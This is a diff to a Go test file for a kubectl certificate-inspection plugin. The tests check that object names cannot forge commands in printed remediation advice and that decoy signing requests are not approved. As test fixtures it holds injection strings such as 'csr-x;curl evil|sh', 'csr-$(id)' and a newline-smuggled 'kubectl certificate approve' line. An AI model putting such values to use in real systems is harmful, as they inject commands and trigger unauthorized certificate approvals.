@@ -5,6 +5,7 @@ import (
 	"testing"
 
 	"github.com/kubectl-certrot/kubectl-certrot/inspect"
+	"github.com/kubectl-certrot/kubectl-certrot/inspect/assess"
 	"github.com/kubectl-certrot/kubectl-certrot/inspect/inspecttest"
 	"github.com/kubectl-certrot/kubectl-certrot/inspect/pki"
 )
@@ -15,16 +16,18 @@ func TestANameOfAnObjectForgesNoCommand(t *testing.T) {
 	t.Parallel()
 	for _, name := range []string{"csr-x;curl evil|sh", "csr-x\n  next: kubectl certificate approve csr-evil", "csr-x csr-evil", "csr-$(id)", "--all", "a'b"} {
 		for where, next := range map[string]string{
-			"a pending request": csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}).Remediation.Text,
-			"annotations":       annotationsOf(pki.Location{Kind: "Secret", Namespace: "a", Name: name}),
-			"their namespace":   annotationsOf(pki.Location{Kind: "Secret", Namespace: name, Name: "a"}),
+			"a pending request": printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: name}, Condition: inspect.Pending}}).Remediation),
+			"annotations":       printed(annotationsOf(pki.Location{Kind: "Secret", Namespace: "a", Name: name})),
+			"their namespace":   printed(annotationsOf(pki.Location{Kind: "Secret", Namespace: name, Name: "a"})),
+			"an object":         printed(advise("look", pki.Location{Kind: "Secret", Namespace: "a", Name: name})),
+			"a cluster's":       printed(advise("look", pki.Location{Kind: "APIService", Name: name})),
+			"an operator":       printed(askOwner("look", name+"-operator")),
 			"a right to get":    inspect.LiveHints("x").Unread(inspect.MayGet("secret/"+name, "a")),
 			"its namespace":     inspect.LiveHints("x").Unread(inspect.MayList("secrets", name)),
 			"a node":            inspect.LiveHints("x").Next("{} fix-api-int --nodes %s", name),
 		} {
-			name := name
-			if where == "an owner's" {
-				name = strings.ReplaceAll(name, " ", "_")
+			if where == "an operator" && strings.Contains(name, " ") {
+				continue // it is no name of a cluster operator's: no command is tried
 			}
 			if where == "a right to get" && name == "--all" {
 				continue // behind its kind it is no option
@@ -36,12 +39,15 @@ func TestANameOfAnObjectForgesNoCommand(t *testing.T) {
 	}
 }
 
+// printed is all that is printed of a next step.
+func printed(r assess.Remediation) string { return r.Text + "\n" + r.Command }
+
 // TestARequestThatHidesSomethingIsNotApproved: what stands beside the request may be a decoy.
 func TestARequestThatHidesSomethingIsNotApproved(t *testing.T) {
 	t.Parallel()
 	for bad, approves := range map[string]bool{"": true, "spec.request holds something beside the certificate request": false} {
 		r := inspect.SigningRequest{Object: &inspect.Object{Kind: "CertificateSigningRequest", Name: "csr-1"}, Condition: inspect.Pending, Bad: bad}
-		next := csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{r}).Remediation.Text
+		next := printed(csrFinding(&inspect.Facts{Now: inspecttest.Noon}, []inspect.SigningRequest{r}).Remediation)
 		if !strings.Contains(next, "kubectl describe csr csr-1") || strings.Contains(next, "certificate approve") != approves {
 			t.Errorf("bad %q: %s", bad, next)
 		}
